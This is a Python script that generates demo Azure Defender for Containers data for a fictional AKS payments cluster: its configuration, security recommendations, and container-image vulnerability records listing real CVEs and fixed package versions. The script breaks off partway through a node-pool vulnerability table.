#!/usr/bin/env python3
"""Generates demo/cluster.json: the embedded demo cluster, in ARM wire format.

Every resource is shaped like the official examples in shared/azure/examples (ids, names,
types, properties), in today's live model (individual recommendations, PascalCase alerts: see the
"live model" stage at the end). The demo transport serves them as ARM would (GET by id, lists by
parent) and answers the app's Resource Graph queries over them.
Deterministic (fixed seed): run `python3 demo/generate.py` and commit the result.

The cluster: a payments platform in West Europe; 14 container images from its ACR (own services
and mirrored open-source components) with real CVEs of their packages; two Ubuntu node pools whose
findings use the individual-recommendation shape (listed on the cluster with the pool as
resourceDetails.id: where Azure files them is UNCONFIRMED); Defender for Containers and Defender
CSPM on the subscription; 22 built-in recommendations plus 16 node-pool ones; 30 alerts of real
Kubernetes alert types (two on a sibling cluster, which the dashboard must not show); two
compliance standards; four owner assignments.
"""
import json
import re, random, uuid, pathlib

rng = random.Random(20261122)
SUB = "3f2a1c8e-6b4d-4e9a-9c1f-2d7e8a5b6c40"
RG = "rg-payments-prod-weu"
NAME = "aks-payments-prod-weu"
LOC = "westeurope"
CLUSTER = f"/subscriptions/{SUB}/resourceGroups/{RG}/providers/Microsoft.ContainerService/managedClusters/{NAME}"
SIBLING = f"/subscriptions/{SUB}/resourceGroups/{RG}/providers/Microsoft.ContainerService/managedClusters/aks-payments-staging-weu"
WORKSPACE = f"/subscriptions/{SUB}/resourceGroups/rg-security-weu/providers/Microsoft.OperationalInsights/workspaces/law-security-weu"
ACR = "contosopayments.azurecr.io"
SEC = "/providers/Microsoft.Security"
resources = []

def guid(*parts):
    return str(uuid.uuid5(uuid.NAMESPACE_URL, "/".join(parts)))

# ---------------------------------------------------------------- managed cluster
resources.append({
    "id": CLUSTER, "name": NAME, "type": "Microsoft.ContainerService/managedClusters",
    "eTag": "a3f9c2d1", "location": LOC,
    "tags": {"environment": "production", "costCenter": "payments-platform"},
    "properties": {
        "provisioningState": "Succeeded", "powerState": {"code": "Running"},
        "kubernetesVersion": "1.30.6", "currentKubernetesVersion": "1.30.6",
        "dnsPrefix": "aks-payments-prod", "fqdn": "aks-payments-prod-9f3b2c1a.hcp.westeurope.azmk8s.io",
        "azurePortalFQDN": "aks-payments-prod-9f3b2c1a.portal.hcp.westeurope.azmk8s.io",
        "agentPoolProfiles": [
            {"name": "system", "count": 3, "vmSize": "Standard_D4ds_v5", "osType": "Linux", "osSKU": "Ubuntu",
             "mode": "System", "orchestratorVersion": "1.30.6", "currentOrchestratorVersion": "1.30.6",
             "nodeImageVersion": "AKSUbuntu-2204gen2containerd-202409.30.0", "availabilityZones": ["1", "2", "3"],
             "maxPods": 110, "provisioningState": "Succeeded"},
            {"name": "apps", "count": 6, "vmSize": "Standard_D8ds_v5", "osType": "Linux", "osSKU": "Ubuntu",
             "mode": "User", "orchestratorVersion": "1.30.6", "currentOrchestratorVersion": "1.30.6",
             "nodeImageVersion": "AKSUbuntu-2204gen2containerd-202409.30.0", "availabilityZones": ["1", "2", "3"],
             "maxPods": 110, "provisioningState": "Succeeded"},
        ],
        "enableRBAC": True, "disableLocalAccounts": False,
        "aadProfile": {"managed": True, "enableAzureRBAC": True, "tenantID": "72f988bf-86f1-41af-91ab-2d7cd011db47"},
        "addonProfiles": {"azurepolicy": {"enabled": False},
                          "omsagent": {"enabled": True, "config": {"logAnalyticsWorkspaceResourceID": WORKSPACE}}},
        "apiServerAccessProfile": {"enablePrivateCluster": False},
        "securityProfile": {"defender": {"logAnalyticsWorkspaceResourceId": WORKSPACE,
                                         "securityMonitoring": {"enabled": False}},
                            "workloadIdentity": {"enabled": True}, "imageCleaner": {"enabled": False}},
        "oidcIssuerProfile": {"enabled": True},
        "networkProfile": {"networkPlugin": "azure", "networkPluginMode": "overlay", "networkPolicy": "cilium",
                           "loadBalancerSku": "standard", "outboundType": "loadBalancer",
                           "podCidr": "10.244.0.0/16", "serviceCidr": "10.0.0.0/16", "dnsServiceIP": "10.0.0.10"},
        "nodeResourceGroup": f"MC_{RG}_{NAME}_{LOC}",
        # Node resource group lockdown (managedClusters.json 2025-10-01): a deny assignment keeps
        # everyone but AKS from writing there, so an exemption on a node VMSS is refused.
        "nodeResourceGroupProfile": {"restrictionLevel": "ReadOnly"},
        "autoUpgradeProfile": {"upgradeChannel": "patch", "nodeOSUpgradeChannel": "NodeImage"},
    },
})

# ---------------------------------------------------------------- pricings
def ext(name, on=True, **more):
    e = {"name": name, "isEnabled": "True" if on else "False"}
    e.update(more)
    return e

containers_exts = [ext("ContainerRegistriesVulnerabilityAssessments"), ext("AgentlessDiscoveryForKubernetes"),
                   ext("AgentlessVmScanning", additionalExtensionProperties={"ExclusionTags": "[]"}),
                   ext("ContainerSensor"), ext("ContainerIntegrityContribution")]
resources += [
    {"id": f"/subscriptions/{SUB}{SEC}/pricings/Containers", "name": "Containers", "type": "Microsoft.Security/pricings",
     "properties": {"pricingTier": "Standard", "freeTrialRemainingTime": "PT0S", "enablementTime": "2025-03-04T09:12:44.5512345Z",
                    "enforce": "False", "resourcesCoverageStatus": "FullyCovered", "extensions": containers_exts}},
    {"id": f"/subscriptions/{SUB}{SEC}/pricings/CloudPosture", "name": "CloudPosture", "type": "Microsoft.Security/pricings",
     "properties": {"pricingTier": "Standard", "freeTrialRemainingTime": "PT0S", "enablementTime": "2025-03-04T09:15:02.1200000Z",
                    "enforce": "False", "extensions": [ext("SensitiveDataDiscovery"), ext("ContainerRegistriesVulnerabilityAssessments"),
                                                       ext("AgentlessDiscoveryForKubernetes"), ext("AgentlessVmScanning", additionalExtensionProperties={"ExclusionTags": "[]"}),
                                                       ext("EntraPermissionsManagement", False)]}},
    {"id": f"/subscriptions/{SUB}{SEC}/pricings/VirtualMachines", "name": "VirtualMachines", "type": "Microsoft.Security/pricings",
     "properties": {"pricingTier": "Free", "freeTrialRemainingTime": "PT0S"}},
    {"id": f"{CLUSTER}{SEC}/pricings/Containers", "name": "Containers", "type": "Microsoft.Security/pricings",
     "properties": {"pricingTier": "Standard", "enablementTime": "2025-03-04T09:12:44.5512345Z", "freeTrialRemainingTime": "PT0S",
                    "inherited": "True", "inheritedFrom": f"/subscriptions/{SUB}", "extensions": containers_exts}},
]

# ---------------------------------------------------------------- recommendations
# key, name, kind, severity, policy, userImpact, effort, threats, status, risk
POLICY = "/providers/Microsoft.Authorization/policyDefinitions/"
RECS = [
    ("56a83a6e-c417-42ec-b567-1e6fcb3d09a9", "Azure Kubernetes Service clusters should have Defender profile enabled", "Cluster", "High", None, "Low", "Low", ["missingCoverage"], "Unhealthy", "High"),
    ("08e628db-e2ed-4793-bc91-d13e684401c3", "Azure Kubernetes Service clusters should have the Azure Policy add-on for Kubernetes installed", "Cluster", "High", "0a15ec92-a229-4763-bb14-0ea34a568f8d", "Low", "Low", ["missingCoverage"], "Unhealthy", "High"),
    ("1a2b5b4c-f80d-46e7-ac81-b51a9fb363de", "Kubernetes API server should be configured with restricted access", "Cluster", "High", "0e246bcf-5f6f-4f87-bc6f-775d4712c7ea", "Moderate", "Moderate", ["accountBreach", "dataExfiltration"], "Unhealthy", "Critical"),
    ("b0fdc63a-38e7-4bab-a7c4-2c2665abbaa9", "Role-Based Access Control should be used on Kubernetes Services", "Cluster", "High", "ac4a19c2-fa67-49b4-8ae5-0b2e78c49457", "High", "High", ["elevationOfPrivilege"], "Healthy", None),
    ("bb318338-de6a-42ff-8428-8274c897d564", "Diagnostic logs in Kubernetes services should be enabled", "Cluster", "Low", None, "Low", "Low", ["threatResistance"], "Unhealthy", "Low"),
    ("c6d87087-9ebe-b31f-b452-0bf3bbbaccd2", "Kubernetes clusters should be accessible only over HTTPS", "Workload", "High", "1a5b4dca-0b6f-4cf5-907c-56316bc1bf3d", "Moderate", "Low", ["dataSpillage"], "Healthy", None),
    ("32060ac3-f17f-4848-db8e-e7cf2c9a53eb", "Kubernetes clusters should disable automounting API credentials", "Workload", "High", "423dd1ba-798e-40e4-9c4d-b6902674b423", "High", "Moderate", ["elevationOfPrivilege"], "Unhealthy", "High"),
    ("aba14f78-27c5-af84-848e-9105d18dfd92", "Kubernetes clusters should not grant CAPSYSADMIN security capabilities", "Workload", "High", "d2e7ea85-6b44-4317-a0be-1b951587f626", "High", "Moderate", ["elevationOfPrivilege"], "Healthy", None),
    ("ff87e0b4-17df-d338-5b19-80e71e0dcc9d", "Kubernetes clusters should not use the default namespace", "Workload", "Low", "9f061a12-e40d-4183-a00e-171812443373", "Low", "Low", ["maliciousInsider"], "Unhealthy", "Low"),
    ("405c9ae6-49f9-46c4-8873-a86690f27818", "Container CPU and memory limits should be enforced", "Workload", "Medium", "e345eecc-fa47-480f-9e88-67dcc122b164", "Moderate", "Low", ["denialOfService"], "Unhealthy", "Medium"),
    ("8d244d29-fa00-4332-b935-c3a51d525417", "Container images should be deployed from trusted registries only", "Workload", "High", "febd0533-8e55-448f-b837-bd0e06f16469", "High", "Moderate", ["dataExfiltration", "maliciousInsider"], "Unhealthy", "Critical"),
    ("802c0637-5a8c-4c98-abd7-7c96d89d6010", "Containers sharing sensitive host namespaces should be avoided", "Workload", "Medium", "47a1ee2f-2a2a-4576-bf2a-e0e36709c2b8", "High", "Moderate", ["elevationOfPrivilege"], "Healthy", None),
    ("86f91051-9d6a-47c3-a07f-bd14cb214b45", "Containers should only use allowed AppArmor profiles", "Workload", "High", "511f5417-5d12-434d-ab2e-816901e72a5e", "High", "High", ["elevationOfPrivilege"], "Healthy", None),
    ("43dc2a2e-ce69-4d42-923e-ab7d136f2cfe", "Container with privilege escalation should be avoided", "Workload", "Medium", "1c6e92c9-99f0-4e55-9cf2-0c234dc48f99", "High", "Moderate", ["elevationOfPrivilege"], "Unhealthy", "Medium"),
    ("27d6f0e9-b4d5-468b-ae7e-03d5473fd864", "Immutable (read-only) root filesystem should be enforced for containers", "Workload", "Medium", "df49d893-a74c-421d-bc95-c663042e5b80", "High", "Moderate", ["maliciousInsider"], "Unhealthy", "Medium"),
    ("11c95609-3553-430d-b788-fd41cde8b2db", "Least privileged Linux capabilities should be enforced for containers", "Workload", "Medium", "c26596ff-4d70-4e6a-9a30-c2506bd2f80c", "High", "Moderate", ["elevationOfPrivilege"], "Unhealthy", "Medium"),
    ("5d90913f-a1c5-4429-ad54-2c6c17fb3c73", "Privileged containers should be avoided", "Workload", "Medium", "95edb821-ddaf-4404-9732-666045e056b4", "High", "Moderate", ["elevationOfPrivilege"], "Unhealthy", "High"),
    ("9b795646-9130-41a4-90b7-df9eae2437c8", "Running containers as root user should be avoided", "Workload", "High", "f06ddb64-5fa3-4b77-b166-acb36f7f6042", "High", "Moderate", ["elevationOfPrivilege"], "Unhealthy", "High"),
    ("add45209-73f6-4fa5-a5a5-74a451b07fbe", "Services should listen on allowed ports only", "Workload", "Medium", "233a2a17-77ca-4fb1-9b6b-69223d272a44", "Moderate", "Low", ["dataExfiltration"], "Healthy", None),
    ("ebc68898-5c0f-4353-a426-4a5f1e737b12", "Usage of host networking and ports should be restricted", "Workload", "Medium", "82985f06-dc18-4a48-bc1c-b9f4f0098cfe", "High", "Moderate", ["elevationOfPrivilege"], "Unhealthy", "Medium"),
    ("f0debc84-981c-4a0d-924d-aa4bd7d55fef", "Usage of pod HostPath volume mounts should be restricted to a known list to restrict node access from compromised containers", "Workload", "Medium", "098fc59e-46c7-4d99-9b16-64990e543d75", "High", "Moderate", ["elevationOfPrivilege"], "Unhealthy", "Medium"),
    ("c609cf0f-71ab-41e9-a3c6-9a1f7fe1b8d5", "Azure running container images should have vulnerabilities resolved (powered by Microsoft Defender Vulnerability Management)", "Vuln", "High", None, "High", "Moderate", ["dataExfiltration", "elevationOfPrivilege"], "Unhealthy", "Critical"),
]
# Remediation text in the shape Azure sends it: HTML fragments with links and numbered steps.
DESCRIPTIONS = {
    "Cluster": ("This control-plane setting of the managed cluster deviates from the security baseline. Defender for Cloud evaluates the cluster's ARM configuration continuously.",
                "To remediate: <ol><li>Change the setting on the cluster with <b>Quick Fix</b> where available, or with the Azure CLI: <code>az aks update</code>.</li>"
                "<li>Settings that can only be chosen at creation require a new cluster; see <a href=\"https://learn.microsoft.com/azure/aks/concepts-security\">Security concepts for AKS</a>.</li></ol>"),
    "Workload": ("Defender for Cloud evaluated the Kubernetes workloads of this cluster with Azure Policy for Kubernetes (Gatekeeper) and found resources that do not meet this check.",
                 "To remediate: <ol><li>Update the listed workloads' pod specifications.</li>"
                 "<li>Assign the built-in Azure Policy in <i>deny</i> effect to prevent new faulty deployments; see <a href=\"https://learn.microsoft.com/azure/defender-for-cloud/kubernetes-workload-protections\">Kubernetes data plane hardening</a>.</li>"
                 "<li>Exempt system namespaces only where required.</li></ol>"),
    "Vuln": ("Container image vulnerability assessment scans the images running on the cluster for known vulnerabilities (CVEs) in OS and language packages.",
             "Rebuild each affected image on a patched base image or upgrade the vulnerable packages to the fixed versions listed, push it, and redeploy the workloads."),
}
assessment_ids = {}
for key, name, kind, sev, policy, impact, effort, threats, status, risk in RECS:
    aid = f"{CLUSTER}{SEC}/assessments/{key}"
    assessment_ids[key] = aid
    st = {"code": status, "firstEvaluationDate": "2025-03-05T02:14:09.1234567Z", "statusChangeDate": "2026-10-" + str(rng.randint(10, 28)) + "T0" + str(rng.randint(1, 9)) + ":41:17.5730000Z"}
    if status == "Unhealthy":
        st["cause"] = "" ; st["description"] = "The resource is unhealthy"
    props = {"resourceDetails": {"source": "Azure", "id": CLUSTER}, "displayName": name, "status": st,
             "additionalData": {}}
    if key == "c609cf0f-71ab-41e9-a3c6-9a1f7fe1b8d5":
        props["additionalData"]["subAssessmentsLink"] = f"{aid}/subAssessments"
    if risk:
        props["risk"] = {"level": risk, "riskFactors": ["Exposure to the Internet", "Critical Resource"] if risk in ("Critical", "High") else ["Critical Resource"],
                         "attackPathsReferences": [], "isContextualRisk": True}
    resources.append({"id": aid, "name": key, "type": "Microsoft.Security/assessments", "properties": props})
    desc, remediation = DESCRIPTIONS[kind]
    meta = {"displayName": name, "assessmentType": "BuiltIn", "categories": ["Container"], "severity": sev,
            "userImpact": impact, "implementationEffort": effort, "threats": threats,
            "description": f"{name}. {desc}", "remediationDescription": remediation,
            "publishDates": {"GA": "06/15/2023", "public": "06/15/2023"}}
    if policy:
        meta["policyDefinitionId"] = POLICY + policy
    resources.append({"id": f"{SEC}/assessmentMetadata/{key}", "name": key, "type": "Microsoft.Security/assessmentMetadata", "properties": meta})

# ---------------------------------------------------------------- image vulnerabilities (grouped model)
# (package, installed, fixed or None, cve, severity, cvss, exploit published)
DEBIAN12 = [
    ("openssl", "3.0.11-1~deb12u1", "3.0.13-1~deb12u1", "CVE-2023-5678", "Medium", 5.3, False),
    ("openssl", "3.0.11-1~deb12u1", "3.0.13-1~deb12u1", "CVE-2024-0727", "Medium", 5.5, False),
    ("openssl", "3.0.11-1~deb12u1", "3.0.15-1~deb12u1", "CVE-2024-5535", "Critical", 9.1, False),
    ("libc6", "2.36-9+deb12u1", "2.36-9+deb12u3", "CVE-2023-4911", "High", 7.8, True),
    ("libc6", "2.36-9+deb12u1", "2.36-9+deb12u4", "CVE-2023-6246", "High", 7.8, True),
    ("libc6", "2.36-9+deb12u1", "2.36-9+deb12u7", "CVE-2024-2961", "High", 7.3, True),
    ("zlib1g", "1:1.2.13.dfsg-1", None, "CVE-2023-45853", "Critical", 9.8, False),
    ("libcurl4", "7.88.1-10+deb12u1", "7.88.1-10+deb12u4", "CVE-2023-38545", "Critical", 9.8, True),
    ("libcurl4", "7.88.1-10+deb12u1", "7.88.1-10+deb12u4", "CVE-2023-38546", "Low", 3.7, False),
    ("libcurl4", "7.88.1-10+deb12u1", "7.88.1-10+deb12u5", "CVE-2023-46218", "Medium", 6.5, False),
    ("libexpat1", "2.5.0-1", "2.5.0-1+deb12u1", "CVE-2023-52425", "High", 7.5, False),
    ("libexpat1", "2.5.0-1", "2.5.0-1+deb12u1", "CVE-2024-45490", "Critical", 9.8, False),
    ("libxml2", "2.9.14+dfsg-1.3", "2.9.14+dfsg-1.3~deb12u1", "CVE-2024-25062", "High", 7.5, False),
    ("libxml2", "2.9.14+dfsg-1.3", None, "CVE-2023-39615", "Medium", 6.5, False),
    ("perl-base", "5.36.0-7", "5.36.0-7+deb12u1", "CVE-2023-31484", "High", 8.1, False),
    ("perl-base", "5.36.0-7", None, "CVE-2011-4116", "Low", 7.5, False),
    ("libncursesw6", "6.4-4", None, "CVE-2023-50495", "Medium", 6.5, False),
    ("util-linux", "2.38.1-5+b1", None, "CVE-2022-0563", "Low", 5.5, False),
    ("libkrb5-3", "1.20.1-2", None, "CVE-2024-26461", "Medium", 5.7, False),
    ("tar", "1.34+dfsg-1.2", None, "CVE-2005-2541", "Low", 7.0, False),
    ("coreutils", "9.1-1", None, "CVE-2016-2781", "Low", 6.5, False),
    ("login", "1:4.13+dfsg1-1", None, "CVE-2023-29383", "Low", 3.3, False),
    ("libsystemd0", "252.17-1~deb12u1", None, "CVE-2013-4392", "Low", 3.3, False),
    ("gpgv", "2.2.40-1.1", None, "CVE-2022-3219", "Low", 3.3, False),
    ("libgnutls30", "3.7.9-2", "3.7.9-2+deb12u2", "CVE-2024-0553", "High", 7.5, False),
    ("libsqlite3-0", "3.40.1-2", None, "CVE-2023-7104", "High", 7.3, False),
    ("libgcc-s1", "12.2.0-14", None, "CVE-2023-4039", "Medium", 4.8, False),
]
UBUNTU2204 = [
    ("openssl", "3.0.2-0ubuntu1.10", "3.0.2-0ubuntu1.12", "CVE-2023-3817", "Medium", 5.3, False),
    ("openssl", "3.0.2-0ubuntu1.10", "3.0.2-0ubuntu1.12", "CVE-2023-3446", "Medium", 5.3, False),
    ("openssl", "3.0.2-0ubuntu1.10", "3.0.2-0ubuntu1.15", "CVE-2024-0727", "Medium", 5.5, False),
    ("libc6", "2.35-0ubuntu3.3", "2.35-0ubuntu3.4", "CVE-2023-4911", "High", 7.8, True),
    ("libc6", "2.35-0ubuntu3.3", "2.35-0ubuntu3.7", "CVE-2024-2961", "High", 7.3, True),
    ("libcurl4", "7.81.0-1ubuntu1.13", "7.81.0-1ubuntu1.14", "CVE-2023-38546", "Low", 3.7, False),
    ("libcurl4", "7.81.0-1ubuntu1.13", "7.81.0-1ubuntu1.15", "CVE-2023-46218", "Medium", 6.5, False),
    ("libwebp7", "1.2.2-2ubuntu0.22.04.1", "1.2.2-2ubuntu0.22.04.2", "CVE-2023-4863", "High", 8.8, True),
    ("libxml2", "2.9.13+dfsg-1ubuntu0.3", "2.9.13+dfsg-1ubuntu0.4", "CVE-2024-25062", "High", 7.5, False),
    ("libncurses6", "6.3-2ubuntu0.1", None, "CVE-2023-50495", "Medium", 6.5, False),
    ("libsystemd0", "249.11-0ubuntu3.10", "249.11-0ubuntu3.12", "CVE-2023-7008", "Medium", 5.9, False),
    ("libgnutls30", "3.7.3-4ubuntu1.2", "3.7.3-4ubuntu1.4", "CVE-2024-0553", "High", 7.5, False),
    ("libpam0g", "1.4.0-11ubuntu2.3", "1.4.0-11ubuntu2.4", "CVE-2024-22365", "Medium", 5.5, False),
    ("less", "590-1ubuntu0.22.04.1", "590-1ubuntu0.22.04.2", "CVE-2022-48624", "High", 7.8, False),
]
ALPINE318 = [
    ("libcrypto3", "3.1.1-r1", "3.1.4-r0", "CVE-2023-3817", "Medium", 5.3, False),
    ("libcrypto3", "3.1.1-r1", "3.1.4-r1", "CVE-2023-5363", "High", 7.5, False),
    ("libcrypto3", "3.1.1-r1", "3.1.4-r5", "CVE-2024-0727", "Medium", 5.5, False),
    ("libssl3", "3.1.1-r1", "3.1.4-r1", "CVE-2023-5363", "High", 7.5, False),
    ("busybox", "1.36.1-r0", "1.36.1-r1", "CVE-2022-48174", "Critical", 9.8, False),
    ("ssl_client", "1.36.1-r0", "1.36.1-r1", "CVE-2022-48174", "Critical", 9.8, False),
    ("libcurl", "8.1.2-r0", "8.4.0-r0", "CVE-2023-38545", "Critical", 9.8, True),
    ("libcurl", "8.1.2-r0", "8.4.0-r0", "CVE-2023-38546", "Low", 3.7, False),
    ("musl", "1.2.4-r0", "1.2.4-r2", "CVE-2025-26519", "High", 8.1, False),
]
GO_OLD = [
    ("stdlib", "1.20.4", "1.20.5", "CVE-2023-29403", "High", 7.8, False),
    ("stdlib", "1.20.4", "1.21.3", "CVE-2023-44487", "High", 7.5, True),
    ("stdlib", "1.20.4", "1.21.3", "CVE-2023-39325", "High", 7.5, False),
    ("stdlib", "1.20.4", "1.22.2", "CVE-2023-45288", "High", 7.5, False),
    ("stdlib", "1.20.4", "1.22.4", "CVE-2024-24790", "Critical", 9.8, False),
    ("stdlib", "1.20.4", "1.21.4", "CVE-2023-45283", "High", 7.5, False),
    ("golang.org/x/net", "0.10.0", "0.17.0", "CVE-2023-44487", "High", 7.5, True),
    ("golang.org/x/net", "0.10.0", "0.17.0", "CVE-2023-39325", "High", 7.5, False),
    ("google.golang.org/grpc", "1.55.0", "1.58.3", "CVE-2023-44487", "High", 7.5, True),
    ("golang.org/x/crypto", "0.9.0", "0.17.0", "CVE-2023-48795", "Medium", 5.9, True),
]
JAVA = [
    ("org.apache.logging.log4j:log4j-core", "2.14.1", "2.15.0", "CVE-2021-44228", "Critical", 10.0, True),
    ("org.apache.logging.log4j:log4j-core", "2.14.1", "2.16.0", "CVE-2021-45046", "Critical", 9.0, True),
    ("org.apache.logging.log4j:log4j-core", "2.14.1", "2.17.1", "CVE-2021-44832", "Medium", 6.6, False),
    ("com.fasterxml.jackson.core:jackson-databind", "2.13.2.2", "2.13.4.2", "CVE-2022-42003", "High", 7.5, False),
    ("com.fasterxml.jackson.core:jackson-databind", "2.13.2.2", "2.13.4", "CVE-2022-42004", "High", 7.5, False),
    ("org.springframework:spring-beans", "5.3.17", "5.3.18", "CVE-2022-22965", "Critical", 9.8, True),
    ("org.springframework:spring-expression", "5.3.17", "5.3.27", "CVE-2023-20863", "Medium", 6.5, False),
    ("org.yaml:snakeyaml", "1.30", "2.0", "CVE-2022-1471", "High", 8.3, True),
    ("io.netty:netty-codec-http2", "4.1.77.Final", "4.1.100.Final", "CVE-2023-44487", "High", 7.5, True),
]
NODE = [
    ("semver", "7.3.8", "7.5.2", "CVE-2022-25883", "High", 7.5, False),
    ("word-wrap", "1.2.3", "1.2.4", "CVE-2023-26115", "High", 7.5, False),
    ("tough-cookie", "4.0.0", "4.1.3", "CVE-2023-26136", "Critical", 9.8, False),
    ("axios", "0.27.2", "1.6.0", "CVE-2023-45857", "Medium", 6.5, False),
    ("follow-redirects", "1.15.2", "1.15.6", "CVE-2024-28849", "Medium", 6.5, False),
    ("express", "4.18.2", "4.19.2", "CVE-2024-29041", "Medium", 6.1, False),
    ("json5", "2.2.1", "2.2.2", "CVE-2022-46175", "High", 8.8, False),
    ("braces", "3.0.2", "3.0.3", "CVE-2024-4068", "High", 7.5, False),
    ("ws", "8.11.0", "8.17.1", "CVE-2024-37890", "High", 7.5, False),
]
PYTHON = [
    ("urllib3", "1.26.15", "1.26.17", "CVE-2023-43804", "High", 8.1, False),
    ("requests", "2.28.2", "2.31.0", "CVE-2023-32681", "Medium", 6.1, False),
    ("cryptography", "41.0.3", "42.0.0", "CVE-2023-50782", "High", 7.5, False),
    ("setuptools", "65.5.0", "65.5.1", "CVE-2022-40897", "Medium", 5.9, False),
    ("certifi", "2022.12.7", "2023.7.22", "CVE-2023-37920", "Critical", 9.8, False),
    ("Werkzeug", "2.2.2", "2.2.3", "CVE-2023-25577", "High", 7.5, False),
    ("Pillow", "9.5.0", "10.2.0", "CVE-2023-50447", "High", 8.1, False),
    ("aiohttp", "3.8.4", "3.9.2", "CVE-2024-23334", "High", 7.5, False),
    ("Jinja2", "3.1.2", "3.1.3", "CVE-2024-22195", "Medium", 5.4, False),
]
REDIS = [("redis", "7.0.11", "7.0.12", "CVE-2022-24834", "High", 8.8, False),
         ("redis", "7.0.11", "7.2.2", "CVE-2023-45145", "Low", 3.6, False)]
NGINX = [("nginx", "1.21.6", "1.25.3", "CVE-2023-44487", "High", 7.5, True)]

# repository, tag, os table, os share (0..1), language tables, namespace, workload
IMAGES = [
    ("payments-api", "2.14.3", DEBIAN12, 0.9, JAVA, "payments", "payments-api"),
    ("checkout-web", "1.9.0", ALPINE318, 1.0, NODE, "checkout", "checkout-web"),
    ("ledger-worker", "3.2.1", DEBIAN12, 0.8, GO_OLD, "payments", "ledger-worker"),
    ("fraud-scoring", "0.18.4", DEBIAN12, 0.8, PYTHON, "risk", "fraud-scoring"),
    ("notification-svc", "1.4.7", ALPINE318, 0.8, NODE[:5], "notifications", "notification-svc"),
    ("batch-settlement", "5.0.2", UBUNTU2204, 1.0, JAVA[3:], "payments", "batch-settlement"),
    ("legacy-reports", "0.9.12", UBUNTU2204, 1.0, PYTHON + JAVA[:3], "reporting", "legacy-reports"),
    ("mirror/ingress-nginx/controller", "v1.9.4", ALPINE318, 1.0, GO_OLD[:6] + NGINX, "ingress-nginx", "ingress-nginx-controller"),
    ("mirror/redis", "7.0.11", DEBIAN12, 0.8, REDIS, "payments", "redis-session"),
    ("mirror/prometheus-community/postgres-exporter", "v0.12.0", DEBIAN12, 0.6, GO_OLD, "monitoring", "postgres-exporter"),
    ("mirror/fluent/fluent-bit", "2.1.8", DEBIAN12, 1.0, [], "logging", "fluent-bit"),
    ("mirror/jetstack/cert-manager-controller", "v1.12.3", DEBIAN12, 0.5, GO_OLD[:8], "cert-manager", "cert-manager"),
    ("mirror/prometheus/prometheus", "v2.45.0", ALPINE318, 0.8, GO_OLD, "monitoring", "prometheus-server"),
    ("mirror/kubernetes-dashboard/dashboard", "v2.7.0", ALPINE318, 0.4, GO_OLD[:7], "kubernetes-dashboard", "kubernetes-dashboard"),
]
VULN_KEY = "c609cf0f-71ab-41e9-a3c6-9a1f7fe1b8d5"
os_names = {id(DEBIAN12): ("Linux", "Debian", "12"), id(UBUNTU2204): ("Linux", "Ubuntu", "22.04"), id(ALPINE318): ("Linux", "Alpine", "3.18")}
image_count = 0
for repo, tag, os_table, share, lang, ns, workload in IMAGES:
    digest = "sha256:" + uuid.uuid5(uuid.NAMESPACE_DNS, repo + tag).hex + uuid.uuid5(uuid.NAMESPACE_OID, repo + tag).hex
    os_rows = [r for r in os_table if rng.random() < share] or os_table[:2]
    platform, os_name, os_ver = os_names[id(os_table)]
    for (pkg, ver, fixed, cve, sev, cvss, exploit) in os_rows + lang:
        category = "OS" if (pkg, ver, fixed, cve, sev, cvss, exploit) in os_table else "Language"
        sid = guid(repo, tag, pkg, cve)
        image_count += 1
        resources.append({
            "id": f"{CLUSTER}{SEC}/assessments/{VULN_KEY}/subAssessments/{sid}",
            "name": sid, "type": "Microsoft.Security/assessments/subAssessments",
            "properties": {
                "id": cve, "displayName": f"{cve}: {pkg}", "description": f"{cve} in {pkg} {ver}.",
                "status": {"code": "Unhealthy", "severity": sev, "cause": "", "description": "The resource is unhealthy"},
                "remediation": f"Upgrade {pkg} to {fixed}." if fixed else "No fix is available yet. Consider mitigations or a different base image.",
                "impact": "", "category": "", "timeGenerated": f"2026-11-{rng.randint(15, 21)}T0{rng.randint(0, 9)}:{rng.randint(10, 59)}:05.7163311Z",
                "resourceDetails": {"source": "Azure", "id": f"/repositories/{repo}/images/{digest}"},
                "additionalData": {
                    "assessedResourceType": "AzureContainerRegistryVulnerability",
                    "cvssV30Score": cvss,
                    "vulnerabilityDetails": {
                        "cveId": cve, "severity": sev,
                        "cvss": {"3.0": {"base": cvss, "cvssVectorString": "CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H" if cvss >= 9 else "CVSS:3.0/AV:N/AC:H/PR:N/UI:N/S:U/C:N/I:N/A:H"}},
                        "exploitabilityAssessment": {"exploitStepsPublished": exploit, "exploitStepsVerified": exploit and cvss >= 9,
                                                     "isInExploitKit": exploit and cvss >= 9.8, "exploitUris": [], "types": ["Remote"] if exploit else []},
                        "lastModifiedDate": "2026-10-02T00:00:00.0000000Z", "publishedDate": f"20{cve[6:8]}-0{rng.randint(1, 9)}-1{rng.randint(0, 9)}T00:00:00.0000000Z",
                        "workarounds": [], "references": [{"title": cve, "link": f"https://nvd.nist.gov/vuln/detail/{cve}"}],
                        "weaknesses": {"cwe": [{"id": "CWE-787" if cvss >= 9 else "CWE-400"}]},
                    },
                    "artifactDetails": {"repositoryName": repo, "registryHost": ACR, "digest": digest, "tags": [tag],
                                        "artifactType": "ContainerImage", "mediaType": "application/vnd.docker.distribution.manifest.v2+json",
                                        "lastPushedToRegistryUTC": "2026-08-14T11:02:44.0000000Z"},
                    "softwareDetails": {"osDetails": {"osPlatform": platform, "osName": os_name, "osVersion": os_ver},
                                        "packageName": pkg, "category": category, "vendor": os_name if category == "OS" else "",
                                        "version": ver, "fixedVersion": fixed or "", "language": "" if category == "OS" else "",
                                        "fixStatus": "FixAvailable" if fixed else "NoFixAvailable", "evidence": [], "fixReference": None},
                    "kubernetesContext": {"workloads": [{"name": workload, "kind": "Deployment", "namespace": ns}]},
                },
            },
        })

# ---------------------------------------------------------------- node pool (individual-recommendation model)
NODE_ROWS = [  # package, installed, fixed, severity, [(cve, cvss)]
    ("openssl", "3.0.2-0ubuntu1.15", "3.0.2-0ubuntu1.18", "High", [("CVE-2024-5535", 9.1), ("CVE-2024-4741", 7.5), ("CVE-2024-2511", 5.9)]),
    ("linux-image-5.15.0-1071-azure", "5.15.0-1071.80", "5.15.0-1073.82", "High", [("CVE-2024-26925", 7.8), ("CVE-2024-36971", 7.8), ("CVE-2024-35950", 6.7)]),
    ("containerd", "1.7.15-1", "1.7.22-1", "Medium", [("CVE-2024-40635", 4.6)]),
    ("runc", "1.1.12-1", "1.1.14-1", "Low", [("CVE-2024-45310", 3.6)]),
